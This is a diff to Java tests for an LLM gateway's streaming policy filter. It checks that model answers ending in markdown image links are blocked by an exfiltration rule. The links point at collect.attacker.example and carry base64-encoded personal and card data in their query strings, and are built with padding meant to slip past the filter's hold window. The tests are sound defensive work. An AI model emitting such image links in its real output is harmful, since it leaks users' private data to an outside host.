@@ -270,31 +270,52 @@ class AgentPresetTest {
         String answer = "Here is the summary you asked for, with a status badge at the end. ".repeat(3)
                 + "![badge](https://collect.attacker.example/p.png?pad=" + "z".repeat(300)
                 + "&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ) Thanks.";
+        StreamOutcome out = stream(answer, 5);
+        assertThat(out.blocked()).isNotNull();
+        assertThat(out.blocked().ruleIds()).contains("agent.exfiltration-output");
+        assertThat(out.received()).as("no part of the image reached the client").doesNotContain("![badge]");
+        assertThat(out.received()).startsWith("Here is the summary");
+    }
+
+    /** The text a stream of {@code answer} in chunks of {@code size} delivered before it ended or was blocked. */
+    private static StreamOutcome stream(String answer, int size) {
         List<String> chunks = new java.util.ArrayList<>();
-        for (int i = 0; i < answer.length(); i += 5) {
-            chunks.add(answer.substring(i, Math.min(answer.length(), i + 5)));
+        for (int i = 0; i < answer.length(); i += size) {
+            chunks.add(answer.substring(i, Math.min(answer.length(), i + size)));
         }
         StringBuilder received = new StringBuilder();
         try (LlmGate gate = PolicyInterceptorTest.gate(
                         AGENT,
                         ScriptedProvider.replying(Reply.chunks(chunks.toArray(new String[0]))),
                         new PolicyInterceptorTest.CaptureCall());
-                dev.llmgate.api.ChatStream stream = gate.stream(ChatRequest.of("p:m", "Summarise"))) {
-            assertThatThrownBy(() -> {
-                        while (stream.hasNext()) {
-                            if (stream.next() instanceof dev.llmgate.api.StreamEvent.TextDelta d) {
-                                received.append(d.text());
-                            }
-                        }
-                    })
-                    .isInstanceOf(PolicyBlockedException.class)
-                    .satisfies(e ->
-                            assertThat(((PolicyBlockedException) e).ruleIds()).contains("agent.exfiltration-output"));
+                dev.llmgate.api.ChatStream s = gate.stream(ChatRequest.of("p:m", "Summarise"))) {
+            while (s.hasNext()) {
+                if (s.next() instanceof dev.llmgate.api.StreamEvent.TextDelta d) {
+                    received.append(d.text());
+                }
+            }
+            return new StreamOutcome(received.toString(), null);
+        } catch (PolicyBlockedException e) {
+            return new StreamOutcome(received.toString(), e);
         }
-        assertThat(received.toString())
-                .as("no part of the image reached the client")
-                .doesNotContain("![badge]");
-        assertThat(received.toString()).startsWith("Here is the summary");
+    }
+
+    private record StreamOutcome(String received, PolicyBlockedException blocked) {}
+
+    @Test
+    void aStreamedImageStillOpenPastTheHoldIsBlockedNotReleased() {
+        // padding past the 4,096 characters a stream holds an open image for, then the data
+        String answer = "Here is the summary. ![badge](https://collect.attacker.example/p.png?pad="
+                + "abcdefgh".repeat(600) + "&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ) Thanks.";
+        StreamOutcome out = stream(answer, 7);
+        assertThat(out.blocked()).isNotNull();
+        assertThat(out.blocked().ruleIds()).contains("agent.exfiltration-output");
+        assertThat(out.received()).doesNotContain("![badge]").doesNotContain("QWxp");
+        // an image whose URL is data: is fetched from nowhere: released as it comes
+        String inline = "A dot: ![dot](data:image/png;base64," + "iVBORw0KGgo".repeat(500) + ") done.";
+        StreamOutcome data = stream(inline, 7);
+        assertThat(data.blocked()).isNull();
+        assertThat(data.received()).isEqualTo(inline);
     }
 
     @Test
